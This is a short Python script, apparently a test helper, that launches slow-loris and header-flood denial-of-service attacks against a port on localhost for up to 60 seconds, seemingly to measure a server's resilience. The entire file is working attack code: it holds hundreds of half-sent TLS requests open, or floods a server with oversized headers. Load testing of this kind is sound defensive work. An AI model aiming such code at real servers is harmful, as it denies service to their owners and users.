"""Attacks on a port of this host, in a process of their own so that they take nothing from whoever measures.

    attacker.py slow-loris|header-flood PORT

Says "ready" when the attack is under way, and ends when its input does, or after 60 s."""

import contextlib
import os
import select
import socket
import ssl
import sys
import time

CONNECTIONS = 400
END = time.monotonic() + 60


def goes_on(pause):
    return time.monotonic() < END and not select.select([sys.stdin], [], [], pause)[0]


def dial(port):
    return socket.create_connection(("127.0.0.1", port), timeout=30)


def slow_loris(port):
    """Many connections, each in the middle of its header for ever: one more byte of it now and then."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    held = []
    for _ in range(CONNECTIONS):
        held.append(context.wrap_socket(dial(port)))
        held[-1].sendall(b"GET /api/trades HTTP/1.1\r\nHost: a\r\nX: ")
    print("ready", flush=True)
    n = 0
    while goes_on(0.002):
        with contextlib.suppress(OSError):
            held[n % len(held)].sendall(b"a")
        n += 1


def header_flood(port):
    """Header fields without end, on connection after connection: each is refused after 64 KiB."""
    field = b"X-Flood: " + b"a" * 8000 + b"\r\n"
    n = 0
    while goes_on(0.002):
        with contextlib.suppress(ConnectionError), dial(port) as connection:
            connection.sendall(b"GET /api/trades HTTP/1.1\r\nHost: a\r\n" + field * 20)
            connection.recv(12)
        n += 1
        if n == 1:
            print("ready", flush=True)


if __name__ == "__main__":
    os.nice(10)
    {"slow-loris": slow_loris, "header-flood": header_flood}[sys.argv[1]](int(sys.argv[2]))
